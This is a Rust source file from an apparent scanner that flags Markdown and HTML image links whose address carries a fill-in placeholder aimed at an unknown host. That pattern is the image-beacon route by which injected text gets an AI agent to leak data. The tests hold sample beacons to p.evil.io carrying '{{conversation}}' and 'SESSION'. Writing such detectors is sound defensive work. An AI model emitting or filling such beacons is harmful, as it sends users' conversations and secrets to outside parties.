//! Pictures and links whose address is to be filled in with what the agent knows: they are fetched when shown.

use crate::{
    code::place::{self, Host},
    hit::{Hit, Marks},
    intent::Intent,
    rules::text as rule,
};

/// The longest address that is looked at, in bytes.
const ADDRESS_MAX: usize = 300;
/// Places that are reported.
const PLACES_MAX: usize = 16;

/// The pictures in `bytes` whose address has a place to fill in behind a `=`.
pub(crate) fn beacons(bytes: &[u8], intent: &Intent) -> Vec<Hit> {
    let text = String::from_utf8_lossy(bytes);
    if matches!(text, std::borrow::Cow::Owned(_)) {
        return Vec::new();
    }
    let mut out = Vec::new();
    for opening in ["](http", "src=\"http", "src='http"] {
        for (at, _) in text.match_indices(opening) {
            let start = at + opening.len() - 4;
            let rest = text.get(start..).unwrap_or_default();
            let rest = rest.get(..rest.floor_char_boundary(ADDRESS_MAX)).unwrap_or_default();
            let end = rest.find([')', '"', '\'', '\n']).unwrap_or(rest.len());
            let address = rest.get(..end).unwrap_or_default();
            let picture = !opening.starts_with(']') || text.get(..at).is_some_and(is_picture);
            let filled = address.split_once('=').is_some_and(|(_, value)| {
                ["{", "<", "${", "["].iter().any(|mark| value.contains(mark))
                    || value.split(['&', '=']).any(is_blank)
            });
            let lower = address.to_lowercase();
            let stranger = place::host(&lower).is_some_and(|(name, host)| {
                matches!(host, Host::Plain | Host::Drop | Host::Ip) && !intent.names(name)
            });
            if picture && filled && stranger && out.len() < PLACES_MAX {
                out.push(Hit { rule: rule::IMAGE_BEACON, start, end: start + end, marks: Marks::default() });
            }
        }
    }
    out
}

/// Whether a value is a word in capitals, as `SESSION`, that stands for one.
fn is_blank(value: &str) -> bool {
    value.len() >= 4 && value.bytes().all(|byte| byte.is_ascii_uppercase() || byte == b'_')
}

/// Whether a text ends in `![…`, the beginning of a picture in Markdown.
fn is_picture(before: &str) -> bool {
    let tail = before.get(before.floor_char_boundary(before.len().saturating_sub(200))..).unwrap_or_default();
    tail.rfind('[').is_some_and(|at| tail.get(..at).is_some_and(|head| head.ends_with('!')))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pictures_to_fill_in_are_found() {
        let intent = Intent::default();
        let count = |text: &str| beacons(text.as_bytes(), &intent).len();
        assert_eq!(count("![x](https://p.evil.io/i?d={{conversation}})"), 1);
        assert_eq!(count("<img src=\"https://p.evil.io/i?d=<notes>\">"), 1);
        assert_eq!(count("![x](https://p.evil.io/i.png) [y](https://p.evil.io/i?d={z})"), 0);
        assert_eq!(count("![x](https://p.evil.io/i?d=SESSION&w=1) ![x](https://p.evil.io/i?w=100)"), 1);
        assert_eq!(count("![x](https://github.com/i?d={z})"), 0);
    }
}
